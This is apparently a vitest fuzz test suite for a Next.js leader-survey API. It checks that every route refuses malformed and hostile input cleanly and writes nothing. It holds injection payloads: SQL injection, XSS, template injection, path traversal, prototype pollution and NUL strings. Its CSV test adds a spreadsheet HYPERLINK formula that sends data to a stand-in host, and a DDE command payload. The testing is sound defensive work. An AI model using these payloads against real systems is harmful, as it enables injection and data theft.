import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { NextRequest } from 'next/server';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as groups from '@/app/api/v1/groups/route';
import * as group from '@/app/api/v1/groups/[id]/route';
import * as leaders from '@/app/api/v1/leaders/route';
import * as leader from '@/app/api/v1/leaders/[id]/route';
import * as rounds from '@/app/api/v1/rounds/route';
import * as round from '@/app/api/v1/rounds/[id]/route';
import * as closeRound from '@/app/api/v1/rounds/[id]/close/route';
import * as openRound from '@/app/api/v1/rounds/[id]/open/route';
import * as results from '@/app/api/v1/rounds/[id]/results/route';
import * as actions from '@/app/api/v1/rounds/[id]/actions/route';
import * as report from '@/app/api/v1/rounds/[id]/report.pdf/route';
import * as answers from '@/app/api/r/[token]/answers/route';
import * as answersCsv from '@/app/api/r/[token]/answers.csv/route';
import * as submit from '@/app/api/r/[token]/submit/route';
import * as poolConcern from '@/app/api/r/[token]/pool-concern/route';
import * as questionnaireForm from '@/app/api/r/[token]/form/route';
import * as languageForm from '@/app/api/r/[token]/language/route';
import { currentQuestionnaire as q } from '@/content/questionnaires';
import { ownerDb } from '@/tests/support/owner-db';
import { personalLinkFor } from '@/lib/domains/invitations/links';
import { stopJobQueue } from '@/lib/platform/queue';
import { tenantModels } from '@/lib/platform/tenant/tenant-models';
import { createApiOrg } from '../fixtures/api';
import { createRespondent, fullAnswers } from '../fixtures/respondents';

/**
 * Every API route gets what an attacker or a broken client sends: malformed JSON, a huge body,
 * the wrong types, unicode edge cases and injection strings. Each must be a clean 4xx in the
 * error shape — never a 5xx, a stack trace or SQL — and nothing may be written.
 */
type Handler = (request: NextRequest, route: { params: Promise<Record<string, string>> }) => Promise<Response>;

const nul = String.fromCharCode(0);
/** Strings no field accepts: unstorable characters, or far too long for any field. */
const unstorableStrings = [nul, `Direktion${nul}`, '\ud800', `Plejecentre \udc00`, '🙂'.repeat(5000), 'x'.repeat(100_000)];
/** Ordinary text as far as a name goes: it may be accepted, and must then be stored as sent. */
const textStrings = ['\u202egnalloK', '\'; DROP TABLE "Leader"; --', '<script>alert(1)</script>', '${7*7}{{7*7}}', '../../etc/passwd', 'NaN'];
const hostileStrings = [...unstorableStrings, ...textStrings];
const invalidValues: unknown[] = [null, true, 0, -1, 1e309, [], {}, { $gt: '' }, ['a', 'b'], ...unstorableStrings];

/** Bodies no endpoint accepts: each is refused as a whole, and nothing is written. */
function hostileBodies(fields: string[], values: unknown[] = invalidValues): { label: string; body: string }[] {
  const bodies = [
    { label: 'truncated JSON', body: '{"name": "Di' },
    { label: 'not JSON', body: "name=Direktion&parentId=1' OR '1'='1" },
    { label: 'JSON null', body: 'null' },
    { label: 'a JSON array', body: '[{"name":"Direktion"}]' },
    { label: 'a JSON string', body: '"Direktion"' },
    { label: 'prototype pollution', body: '{"__proto__": {"admin": true}, "constructor": {"prototype": {"admin": true}}}' },
    { label: 'a 2 MB body', body: JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024) }) },
    { label: 'deeply nested', body: `${'['.repeat(5000)}${']'.repeat(5000)}` },
  ];
  for (const field of fields) {
    for (const value of values) bodies.push({ label: `${field} = ${JSON.stringify(value)?.slice(0, 30)}`, body: JSON.stringify({ [field]: value }) });
  }
  return bodies;
}

let org: Awaited<ReturnType<typeof createApiOrg>>;
let ids: { group: string; leader: string; draft: string; token: string; respondentOrg: string };

beforeAll(async () => {
  org = await createApiOrg('Fuzz');
  const call = async (handler: Handler, url: string, body: unknown) =>
    (await handler(new NextRequest(url, { method: 'POST', headers: org.headers, body: JSON.stringify(body) }), { params: Promise.resolve({}) })).json();
  const group = await call(groups.POST, 'http://t/api/v1/groups', { name: 'Direktion' });
  const anne = await call(leaders.POST, 'http://t/api/v1/leaders', { name: 'Anne', email: 'anne@example.test', groupId: group.id });
  const draft = await call(rounds.POST, 'http://t/api/v1/rounds', {
    name: 'LederAPV 2027',
    opensAt: new Date().toISOString(),
    closesAt: new Date(Date.now() + 14 * 86_400_000).toISOString(),
    groupIds: [group.id],
  });
  const respondent = await createRespondent();
  const { url } = await personalLinkFor(ownerDb(), respondent.invitation);
  ids = { group: group.id, leader: anne.id, draft: draft.id, token: url.split('/').pop()!, respondentOrg: respondent.ctx.organisationId };
});

afterAll(async () => {
  await stopJobQueue();
});

/** Rows of every tenant table (the audit log and the abuse counters aside: refusals may be counted). */
async function snapshot(): Promise<Record<string, number>> {
  const counts: Record<string, number> = {};
  for (const model of tenantModels) {
    if (model === 'AuditLogEntry') continue;
    const rows = await ownerDb().$queryRawUnsafe<{ n: number }[]>(`SELECT count(*)::int AS n FROM "${model}"`);
    counts[model] = rows[0]!.n;
  }
  const jobs = await ownerDb()
    .$queryRawUnsafe<{ n: number }[]>(`SELECT count(*)::int AS n FROM pgboss.job`)
    .catch(() => [{ n: 0 }]);
  counts['pgboss.job'] = jobs[0]!.n;
  return counts;
}

async function expectCleanRefusal(response: Response, label: string) {
  const text = await response.text();
  expect(response.status, `${label}: ${text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
  expect(response.status, `${label}: ${text.slice(0, 200)}`).toBeLessThan(500);
  // Refusals name what was wrong with a person's data: no cache may keep them either.
  expect(response.headers.get('cache-control'), label).toContain('no-store');
  const body = JSON.parse(text) as { error: { code: string; message: string } };
  expect(typeof body.error.code).toBe('string');
  if (response.status === 401) expect(response.headers.get('www-authenticate'), label).toMatch(/^Bearer /);
  expect(body.error.message).not.toMatch(/prisma|postgres|SELECT|INSERT|at \w+ \(|node_modules|invalid byte sequence/i);
}

// null (also 1e309, which JSON writes as null) is a value PATCH takes on purpose: no parent, no manager, the organisation's language.
const invalidInPatch = invalidValues.filter((value) => JSON.stringify(value) !== 'null');

const writers: { name: string; method?: 'PATCH'; handler: () => Handler; url: () => string; fields: string[]; id?: () => string; values?: unknown[] }[] = [
  { name: 'POST /api/v1/groups', handler: () => groups.POST, url: () => 'http://t/api/v1/groups', fields: ['name', 'parentId'] },
  {
    name: 'PATCH /api/v1/groups/{id}',
    method: 'PATCH',
    handler: () => group.PATCH,
    url: () => `http://t/api/v1/groups/${ids.group}`,
    fields: ['name', 'parentId'],
    id: () => ids.group,
    values: invalidInPatch,
  },
  {
    name: 'PATCH /api/v1/leaders/{id}',
    method: 'PATCH',
    handler: () => leader.PATCH,
    url: () => `http://t/api/v1/leaders/${ids.leader}`,
    fields: ['name', 'email', 'groupId', 'managerEmail', 'locale'],
    id: () => ids.leader,
    values: invalidInPatch,
  },
  { name: 'POST /api/v1/leaders', handler: () => leaders.POST, url: () => 'http://t/api/v1/leaders', fields: ['name', 'email', 'groupId'] },
  { name: 'POST /api/v1/rounds', handler: () => rounds.POST, url: () => 'http://t/api/v1/rounds', fields: ['name', 'opensAt', 'closesAt', 'groupIds', 'anonymityThreshold'] },
  { name: 'POST /api/v1/rounds/{id}/open', handler: () => openRound.POST, url: () => `http://t/api/v1/rounds/${'x'.repeat(3)}/open`, fields: ['id'] },
  { name: 'POST /api/v1/rounds/{id}/close', handler: () => closeRound.POST, url: () => `http://t/api/v1/rounds/nope/close`, fields: ['id'] },
  {
    name: 'POST /api/v1/rounds/{id}/actions',
    handler: () => actions.POST,
    url: () => `http://t/api/v1/rounds/${ids.draft}/actions`,
    fields: ['groupId', 'title', 'responsibleLevel', 'ownerEmail', 'dueDate', 'priority'],
  },
];

describe('the public API under hostile input', () => {
  it('lists every route handler of the API in this test', () => {
    const root = join(process.cwd(), 'app/api');
    const handlers: string[] = [];
    const walk = (dir: string) => {
      for (const entry of readdirSync(dir, { withFileTypes: true })) {
        if (entry.isDirectory()) walk(join(dir, entry.name));
        else if (entry.name === 'route.ts')
          for (const m of readFileSync(join(dir, entry.name), 'utf8').matchAll(/export const (GET|POST|PUT|PATCH|DELETE)\b/g)) handlers.push(`${m[1]} ${dir.slice(root.length)}`);
      }
    };
    walk(root);
    const covered = [
      'GET /v1/rounds/[id]/actions',
      'POST /v1/rounds/[id]/actions',
      'GET /v1/rounds/[id]/report.pdf',
      'POST /v1/groups',
      'GET /v1/groups',
      'GET /v1/groups/[id]',
      'PATCH /v1/groups/[id]',
      'DELETE /v1/groups/[id]',
      'POST /v1/leaders',
      'GET /v1/leaders',
      'GET /v1/leaders/[id]',
      'PATCH /v1/leaders/[id]',
      'DELETE /v1/leaders/[id]',
      'POST /v1/rounds',
      'GET /v1/rounds/[id]',
      'POST /v1/rounds/[id]/open',
      'POST /v1/rounds/[id]/close',
      'GET /v1/rounds/[id]/results',
      'POST /r/[token]/answers',
      'POST /r/[token]/submit',
      'GET /r/[token]/answers.csv',
      'POST /r/[token]/pool-concern',
      'POST /r/[token]/form',
      'POST /r/[token]/language',
    ];
    expect(handlers.filter((h) => !covered.includes(h) && !h.includes('/auth/') && !h.includes('/health') && !h.includes('openapi'))).toEqual([]);
  });

  for (const writer of writers) {
    it(`${writer.name} refuses every hostile body cleanly and writes nothing`, async () => {
      const before = await snapshot();
      for (const { label, body } of hostileBodies(writer.fields, writer.values)) {
        const response = await writer.handler()(new NextRequest(writer.url(), { method: writer.method ?? 'POST', headers: org.headers, body }), {
          params: Promise.resolve({ id: writer.id?.() ?? (writer.name.endsWith('/actions') ? ids.draft : label.startsWith('id') ? body : 'nope') }),
        });
        await expectCleanRefusal(response, `${writer.name} with ${label}`);
      }
      expect(await snapshot()).toEqual(before);
    });

    it(`${writer.name} answers ordinary-but-hostile text without a 5xx, storing it as sent if it accepts it`, async () => {
      for (const field of writer.fields) {
        for (const value of textStrings) {
          const response = await writer.handler()(new NextRequest(writer.url(), { method: writer.method ?? 'POST', headers: org.headers, body: JSON.stringify({ [field]: value }) }), {
            params: Promise.resolve({ id: writer.id?.() ?? (writer.name.endsWith('/actions') ? ids.draft : 'nope') }),
          });
          if (response.status < 300) expect(Object.values(await response.json())).toContain(value);
          else await expectCleanRefusal(response, `${writer.name} with ${field} = ${value}`);
        }
      }
    });
  }

  it('GET routes refuse hostile ids and query strings cleanly', async () => {
    const before = await snapshot();
    for (const value of hostileStrings.filter((s) => s.length < 1000 && s.isWellFormed())) {
      const q = encodeURIComponent(value);
      await expectCleanRefusal(
        await round.GET(new NextRequest(`http://t/api/v1/rounds/${q}`, { headers: org.headers }), { params: Promise.resolve({ id: value }) }),
        `round id ${JSON.stringify(value)}`,
      );
      await expectCleanRefusal(
        await results.GET(new NextRequest(`http://t/api/v1/rounds/${ids.draft}/results?groupId=${q}`, { headers: org.headers }), { params: Promise.resolve({ id: ids.draft }) }),
        `results groupId ${JSON.stringify(value)}`,
      );
      await expectCleanRefusal(
        await actions.GET(new NextRequest(`http://t/api/v1/rounds/${q}/actions`, { headers: org.headers }), { params: Promise.resolve({ id: value }) }),
        `actions round id ${JSON.stringify(value)}`,
      );
      await expectCleanRefusal(
        await report.GET(new NextRequest(`http://t/api/v1/rounds/${ids.draft}/report.pdf?groupId=${q}&locale=${q}`, { headers: org.headers }), { params: Promise.resolve({ id: ids.draft }) }),
        `report groupId ${JSON.stringify(value)}`,
      );
      for (const [name, handler] of [
        ['group', group.GET],
        ['archive group', group.DELETE],
        ['leader', leader.GET],
        ['archive leader', leader.DELETE],
      ] as const) {
        await expectCleanRefusal(await handler(new NextRequest(`http://t/api/v1/x/${q}`, { headers: org.headers }), { params: Promise.resolve({ id: value }) }), `${name} id ${JSON.stringify(value)}`);
      }
      const paged = await groups.GET(new NextRequest(`http://t/api/v1/groups?cursor=${q}&limit=${q}&updatedSince=${q}&status=${q}`, { headers: org.headers }), { params: Promise.resolve({}) });
      await expectCleanRefusal(paged, `groups page query ${JSON.stringify(value)}`);
      const listed = await leaders.GET(new NextRequest(`http://t/api/v1/leaders?groupId=${q}`, { headers: org.headers }), { params: Promise.resolve({}) });
      if (listed.status !== 200) await expectCleanRefusal(listed, `leaders groupId ${JSON.stringify(value)}`);
    }
    for (const header of ['Bearer', 'Bearer \u00e6\u00f8\u00e5', 'Bearer ' + 'x'.repeat(10_000), "Bearer ' OR 1=1 --", 'Basic YWRtaW46YWRtaW4=']) {
      await expectCleanRefusal(
        await groups.GET(new NextRequest('http://t/api/v1/groups', { headers: { authorization: header } }), { params: Promise.resolve({}) }),
        `authorization ${header.slice(0, 20)}`,
      );
    }
    expect(await snapshot()).toEqual(before);
  });

  it('stores an injection string given as a name as plain text, exactly as sent', async () => {
    // A fresh key: the requests above have used up this file's key's rate limit.
    const fresh = await createApiOrg('Fuzz injection');
    const name = 'Robert\'); DROP TABLE "LeaderGroup";--';
    const response = await groups.POST(new NextRequest('http://t/api/v1/groups', { method: 'POST', headers: fresh.headers, body: JSON.stringify({ name }) }), { params: Promise.resolve({}) });
    expect(response.status).toBe(201);
    expect((await response.json()).name).toBe(name);
    expect(await ownerDb().leaderGroup.count({ where: { organisationId: fresh.organisationId, name } })).toBe(1);
  });
});

describe('the personal-link API under hostile input', () => {
  it('refuses every hostile body to answers and submit cleanly and writes nothing', async () => {
    const before = await snapshot();
    const route = { params: Promise.resolve({ token: ids.token }) };
    // An empty list of answers or comments is a valid (empty) save, so it is not among these.
    const invalidHere = invalidValues.filter((v) => !(typeof v === 'object' && v !== null && Object.keys(v).length === 0));
    for (const { label, body } of hostileBodies(['answers', 'comments'], invalidHere)) {
      await expectCleanRefusal(await answers.POST(new NextRequest(`http://t/api/r/${ids.token}/answers`, { method: 'POST', body }), route), `answers with ${label}`);
    }
    for (const value of [...invalidValues, ...textStrings]) {
      const body = JSON.stringify({ answers: [{ itemKey: value, value }] });
      await expectCleanRefusal(await answers.POST(new NextRequest(`http://t/api/r/${ids.token}/answers`, { method: 'POST', body }), route), `answer ${JSON.stringify(value)?.slice(0, 30)}`);
    }
    await expectCleanRefusal(await submit.POST(new NextRequest(`http://t/api/r/${ids.token}/submit`, { method: 'POST', body: '{' }), route), 'submit with nothing answered');
    expect(await snapshot()).toEqual(before);
  });

  it('answers hostile posts to the pool-concern form cleanly — back to the page, or a 4xx — and writes nothing', async () => {
    const before = await snapshot();
    const route = { params: Promise.resolve({ token: ids.token }) };
    const post = (body: string, contentType?: string) =>
      poolConcern.POST(new NextRequest(`http://t/api/r/${ids.token}/pool-concern`, { method: 'POST', body, ...(contentType ? { headers: { 'content-type': contentType } } : {}) }), route);
    const form = 'application/x-www-form-urlencoded';
    for (const body of ['message=%00', `message=Plejecentre%00`, `message=${'x'.repeat(1001)}`, `message=${'x'.repeat(2 * 1024 * 1024)}`]) {
      const response = await post(body, form);
      expect(response.status, body.slice(0, 30)).toBe(303);
      expect(response.headers.get('location')).toBe(`/r/${ids.token}?pool=invalid#pool`);
    }
    for (const { label, body } of hostileBodies(['message'])) await expectCleanRefusal(await post(body), `pool concern with ${label}`);
    expect(await snapshot()).toEqual(before);
  });

  it('answers hostile posts of the plain questionnaire and language forms back on the page, never with a 5xx, and writes nothing invalid', async () => {
    const route = { params: Promise.resolve({ token: ids.token }) };
    const item = encodeURIComponent(q.items[0]!.key);
    const post = async (name: 'form' | 'language', body: string) => {
      const handler = name === 'form' ? questionnaireForm.POST : languageForm.POST;
      const response = await handler(new NextRequest(`http://t/api/r/${ids.token}/${name}`, { method: 'POST', body, headers: { 'content-type': 'application/x-www-form-urlencoded' } }), route);
      const label = `${name} with ${body.slice(0, 40)}`;
      expect(response.status, label).toBeLessThan(500);
      if (response.status === 303) expect(response.headers.get('location'), label).toMatch(new RegExp(`^/r/${ids.token}`));
    };
    // Invalid, each of them: nothing may be written.
    const before = await snapshot();
    const invalid = [
      `${item}=%00`,
      `${item}=6`,
      `${item}=-1`,
      `${item}=2.5`,
      `${item}=${'9'.repeat(400)}`,
      'no.such.item=3',
      'comment-strain=%00&intent=submit',
      `comment-resource=${'x'.repeat(5000)}`,
      'intent=submit',
    ];
    for (const body of invalid) {
      for (const name of ['form', 'language'] as const) await post(name, body);
      expect(await snapshot(), body.slice(0, 40)).toEqual(before);
    }
    // Odd text where a number belongs: refused, or read as the number it spells ("1e0") — never a 5xx.
    for (const value of hostileStrings.filter((v) => v.length < 2000 && v.isWellFormed())) await post('form', `${item}=${encodeURIComponent(value)}`);
    const stored = await ownerDb().answer.findMany({ where: { organisationId: ids.respondentOrg }, select: { value: true } });
    expect(stored.every(({ value }) => Number.isInteger(value) && value >= 1 && value <= 5)).toBe(true);
  });

  it('refuses an answer given twice in one body with a 400 that names the item, and writes nothing', async () => {
    const before = await snapshot();
    const route = { params: Promise.resolve({ token: ids.token }) };
    const [first, second] = [q.items[0]!.key, q.items[1]!.key];
    const bodies = [
      {
        answers: [
          { itemKey: first, value: 2 },
          { itemKey: second, value: 3 },
          { itemKey: first, value: 4 },
        ],
      },
      {
        answers: [
          { itemKey: first, value: 2 },
          { itemKey: first, value: null },
        ],
      },
    ];
    for (const body of bodies) {
      const response = await answers.POST(new NextRequest(`http://t/api/r/${ids.token}/answers`, { method: 'POST', body: JSON.stringify(body) }), route);
      expect(response.status, JSON.stringify(body)).toBe(400);
      const { error } = (await response.json()) as { error: { code: string; details: { path: string; message: string }[] } };
      expect(error.code).toBe('validation_failed');
      expect(error.details).toEqual([{ path: `answers.${body.answers.length - 1}.itemKey`, message: `“${first}” is answered more than once.` }]);
    }
    expect(await snapshot()).toEqual(before);
  });

  it("escapes formulas in the leader's own answers CSV, as in every other CSV, and keeps negative answers numbers", async () => {
    const respondent = await createRespondent();
    const token = (await personalLinkFor(ownerDb(), respondent.invitation)).url.split('/').pop()!;
    const route = { params: Promise.resolve({ token }) };
    const comments = { strain: '=HYPERLINK("http://evil.example/?"&A1,"Klik")', resource: '@SUM(1+1)*cmd|" /C calc"!A0' };
    const saved = await answers.POST(
      new NextRequest(`http://t/api/r/${token}/answers`, { method: 'POST', body: JSON.stringify({ answers: fullAnswers({ strain: 2, resource: 4, relation: -1 }), comments }) }),
      route,
    );
    expect(saved.status).toBe(200);
    for (const [lang, delimiter] of [
      ['da', ';'],
      ['en', ','],
    ] as const) {
      const response = await answersCsv.GET(new NextRequest(`http://t/api/r/${token}/answers.csv?lang=${lang}`), route);
      expect(response.status).toBe(200);
      const rows = Papa.parse<string[]>((await response.text()).replace(/^\uFEFF/, ''), { delimiter, skipEmptyLines: true }).data;
      const cells = rows.flat();
      expect(cells).toContain(`'${comments.strain}`);
      expect(cells).toContain(`'${comments.resource}`);
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+$/.test(cell))).toEqual([]);
      // The relations were answered -1: a number, not text.
      expect(rows.filter((row) => row[2] === '-1')).toHaveLength(q.relations.length);
    }
  });
});
